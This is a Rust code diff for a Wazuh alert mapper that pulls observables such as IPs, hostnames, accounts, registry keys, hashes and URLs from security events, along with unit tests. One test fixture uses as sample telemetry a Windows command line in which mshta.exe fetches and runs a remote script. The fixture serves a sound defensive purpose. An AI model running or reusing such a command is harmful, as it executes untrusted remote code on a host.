@@ -59,7 +59,8 @@ fn account(event: &Value, user: &str, domain: &str) -> Option<String> {
     })
 }
 
-/// What Windows events (through the eventchannel decoder) name.
+/// What Windows events (through the eventchannel decoder) name, each field
+/// read as what its name says it holds; the command line is free text.
 fn windows(event: &Value, obs: &mut Observables) {
     let data = |field: &str| text(event, &format!("data.win.eventdata.{field}"));
     obs.add_host(text(event, "data.win.system.computer"));
@@ -72,6 +73,8 @@ fn windows(event: &Value, obs: &mut Observables) {
     for field in ["ipAddress", "sourceIp", "destinationIp"] {
         obs.add(K::Ip, data(field));
     }
+    obs.add_host(data("workstationName"));
+    obs.add_host(data("sourceHostname"));
     obs.add_host(data("destinationHostname"));
     obs.add(K::Domain, data("queryName"));
     // A process image is both the process (by its name) and a file on disk.
@@ -80,10 +83,97 @@ fn windows(event: &Value, obs: &mut Observables) {
         obs.add(K::FilePath, Some(image));
     }
     obs.add(K::FilePath, data("targetFilename"));
+    obs.add(K::FilePath, data("imageLoaded"));
     obs.add(K::RegistryKey, data("targetObject"));
     if let Some(h) = data("hashes") {
         sysmon_hashes(&h, obs);
     }
+    obs.add_text(data("commandLine"));
+}
+
+/// A registry entry that file integrity monitoring reports: the key, with
+/// the value's name when a value changed. Its hashes are of the value's
+/// data, not of a file, so they are not observables.
+fn syscheck_registry(event: &Value) -> Option<String> {
+    let path = text(event, "syscheck.path")?;
+    let registry = path.to_ascii_uppercase().starts_with("HKEY_")
+        || text(event, "decoder.name").is_some_and(|d| d.starts_with("syscheck_registry"))
+        || text(event, "syscheck.value_type").is_some();
+    if !registry {
+        return None;
+    }
+    Some(match text(event, "syscheck.value_name") {
+        Some(name) => format!("{}\\{name}", path.trim_end_matches('\\')),
+        None => path,
+    })
+}
+
+/// The addresses a `netstat listening ports` command reports, each line
+/// `proto local-address:port foreign-address:port pid/program`: the port is
+/// cut at the last colon (`::1:631` is the loopback address, port 631).
+fn netstat(log: &str, obs: &mut Observables) {
+    for line in log.lines().skip(1) {
+        let mut words = line.split_whitespace();
+        let (Some(_proto), Some(local)) = (words.next(), words.next()) else { continue };
+        if let Some((address, port)) = local.rsplit_once(':')
+            && port.bytes().all(|b| b.is_ascii_digit())
+        {
+            // `fd17:625c:f037:2::57678`: the port took the second colon of `::`.
+            let address = match address.strip_suffix(':') {
+                Some(a) if !a.ends_with(':') => format!("{address}:"),
+                _ => address.to_owned(),
+            };
+            obs.add(K::Ip, Some(address));
+        }
+    }
+}
+
+/// A user as PAM decoders write it (`root(uid=0)`): the name alone.
+fn user_name(value: Option<String>) -> Option<String> {
+    value.map(|v| match v.split_once('(') {
+        Some((name, rest)) if rest.ends_with(')') && !name.trim().is_empty() => name.trim().to_owned(),
+        _ => v,
+    })
+}
+
+/// The observables of an alert: the fields Wazuh's decoders name, each read
+/// as what it is, and the log line as free text when it is one (not the
+/// JSON of an event whose fields are decoded, and not a netstat listing).
+pub(super) fn observables(event: &Value) -> Observables {
+    let mut obs = Observables::default();
+    obs.add_host(text(event, "agent.name"));
+    obs.add(K::Ip, text(event, "agent.ip"));
+    for field in ["data.srcip", "data.dstip", "data.src_ip", "data.dest_ip"] {
+        obs.add(K::Ip, text(event, field));
+    }
+    obs.add(K::UserAccount, user_name(text(event, "data.srcuser")));
+    obs.add(K::UserAccount, user_name(text(event, "data.dstuser")));
+    // Web access logs decode `url` as the path alone; only a whole URL is one.
+    obs.add(K::Url, text(event, "data.url"));
+    windows(event, &mut obs);
+    match syscheck_registry(event) {
+        Some(key) => obs.add(K::RegistryKey, Some(key)),
+        None => {
+            obs.add(K::FilePath, text(event, "syscheck.path"));
+            for h in ["syscheck.md5_after", "syscheck.sha1_after", "syscheck.sha256_after"] {
+                obs.add_hash(text(event, h));
+            }
+        }
+    }
+    // The VirusTotal integration names the file it looked up.
+    obs.add(K::FilePath, text(event, "data.virustotal.source.file"));
+    for h in ["data.virustotal.source.md5", "data.virustotal.source.sha1"] {
+        obs.add_hash(text(event, h));
+    }
+    let log = text(event, "full_log");
+    if text(event, "location").as_deref() == Some("netstat listening ports") {
+        if let Some(log) = &log {
+            netstat(log, &mut obs);
+        }
+    } else if get(event, "data.win").is_none() && get(event, "syscheck").is_none() {
+        obs.add_text(log.filter(|l| !l.trim_start().starts_with('{')));
+    }
+    obs
 }
 
 /// The alert's reference: the manager, the agent, the rule and the alert
@@ -148,28 +238,6 @@ pub fn map(event: Value) -> Result<Mapped, MapError> {
     let event_time = text(&event, "timestamp").map(|t| timestamp(&t, "timestamp")).transpose()?;
     let mut tags = texts(&event, "rule.groups");
     tags.extend(texts(&event, "rule.mitre.id").iter().filter_map(|id| attack_tag(id)));
-    let mut obs = Observables::default();
-    obs.add_host(text(&event, "agent.name"));
-    obs.add(K::Ip, text(&event, "agent.ip"));
-    obs.add(K::Ip, text(&event, "data.srcip"));
-    obs.add(K::Ip, text(&event, "data.dstip"));
-    obs.add(K::UserAccount, text(&event, "data.srcuser"));
-    obs.add(K::UserAccount, text(&event, "data.dstuser"));
-    // Web access logs decode `url` as the path alone; only a whole URL is one.
-    obs.add(K::Url, text(&event, "data.url"));
-    windows(&event, &mut obs);
-    obs.add(K::FilePath, text(&event, "syscheck.path"));
-    // The VirusTotal integration names the file it looked up.
-    obs.add(K::FilePath, text(&event, "data.virustotal.source.file"));
-    for h in [
-        "syscheck.md5_after",
-        "syscheck.sha1_after",
-        "syscheck.sha256_after",
-        "data.virustotal.source.md5",
-        "data.virustotal.source.sha1",
-    ] {
-        obs.add_hash(text(&event, h));
-    }
     let mut custom = Map::new();
     keep(
         &event,
@@ -199,7 +267,7 @@ pub fn map(event: Value) -> Result<Mapped, MapError> {
         severity,
         event_time,
         tags,
-        observables: obs,
+        observables: observables(&event),
         custom_fields: custom,
     };
     Ok(Mapped::Alert(native.into_json(event)))
@@ -235,6 +303,70 @@ mod tests {
             &mut obs,
         );
         assert_eq!(obs.pairs(), [("sha1", "8f3c2e1d0b9a7c6e5d4f3a2b1c0d9e8f7a6b5c4d")]);
+    }
+
+    fn pairs(event: Value) -> Vec<(&'static str, String)> {
+        observables(&event).into_pairs().into_iter().map(|(k, v)| (k.as_str(), v)).collect()
+    }
+
+    #[test]
+    fn a_registry_entry_is_a_key_and_its_hashes_are_not_files() {
+        let got = pairs(json!({ "syscheck": {
+            "path": "HKEY_LOCAL_MACHINE\\System\\CurrentControlSet\\Services\\W32Time\\SecureTimeLimits",
+            "value_name": "SecureTimeLow", "value_type": "REG_QWORD", "arch": "[x32]",
+            "md5_after": "2d1e51dbeb52faa7dc98f91ef96de4fb",
+            "sha256_after": "e377f3d5fc7e41ad08ed5bda001c108a8085b7d322fdb6708e86e637aee509e7" },
+            "decoder": { "name": "syscheck_registry_value_modified" },
+            "full_log": "Registry Value '[x32] HKEY_LOCAL_MACHINE\\System\\…' modified\nOld md5sum was: '8d8ca2699b142866db9aec3a34e21cf0'" }));
+        assert_eq!(
+            got,
+            [(
+                "registry_key",
+                "HKEY_LOCAL_MACHINE\\System\\CurrentControlSet\\Services\\W32Time\\SecureTimeLimits\\SecureTimeLow"
+                    .into()
+            )]
+        );
+        let file =
+            pairs(json!({ "syscheck": { "path": "/etc/passwd", "md5_after": "2d1e51dbeb52faa7dc98f91ef96de4fb" } }));
+        assert_eq!(file, [("file_path", "/etc/passwd".into()), ("md5", "2d1e51dbeb52faa7dc98f91ef96de4fb".into())]);
+    }
+
+    #[test]
+    fn netstat_ports_are_cut_from_their_addresses() {
+        let got = pairs(json!({ "location": "netstat listening ports",
+            "full_log": "ossec: output: 'netstat listening ports':\ntcp6 ::1:631 :::* 1/cupsd\ntcp 0.0.0.0:22 0.0.0.0:* 2/sshd\ntcp 10.0.2.15:57678 0.0.0.0:* 3/x\ntcp6 fd17:625c:f037:2::57678 :::* 3/x" }));
+        assert_eq!(got, [("ip", "10.0.2.15".into()), ("ip", "fd17:625c:f037:2::".into())]);
+    }
+
+    #[test]
+    fn a_json_log_is_read_by_its_decoded_fields_not_as_text() {
+        let got = pairs(json!({ "full_log": "{\"version\":\"7.5.4.0\",\"p2\":\"1.3.233.3\",\"src\":\"203.0.113.9\"}",
+            "data": { "srcip": "198.51.100.4" } }));
+        assert_eq!(got, [("ip", "198.51.100.4".into())]);
+        let line = pairs(
+            json!({ "full_log": "sshd[1]: Invalid user paco from 172.17.1.1 port 56404", "data": { "srcuser": "paco" } }),
+        );
+        assert_eq!(line, [("user_account", "paco".into()), ("ip", "172.17.1.1".into())]);
+    }
+
+    #[test]
+    fn eventchannel_fields_and_the_command_line() {
+        let got = pairs(json!({ "data": { "win": {
+            "system": { "computer": "WIN-DC-01" },
+            "eventdata": { "image": "C:\\Windows\\System32\\mshta.exe",
+                "commandLine": "\"C:\\WINDOWS\\System32\\mshta.exe\" https://hotelesms.com/talsk.txt",
+                "virtualAccount": "%%1843", "user": "CORP\\Alice", "targetUserName": "alice", "targetDomainName": "corp" } } } }));
+        assert_eq!(
+            got,
+            [
+                ("hostname", "win-dc-01".into()),
+                // `CORP\\Alice` is the same account, spelled otherwise.
+                ("user_account", "corp\\alice".into()),
+                ("process", "mshta.exe".into()),
+                ("file_path", "C:\\Windows\\System32\\mshta.exe".into()),
+                ("url", "https://hotelesms.com/talsk.txt".into()),
+            ]
+        );
     }
 
     #[test]
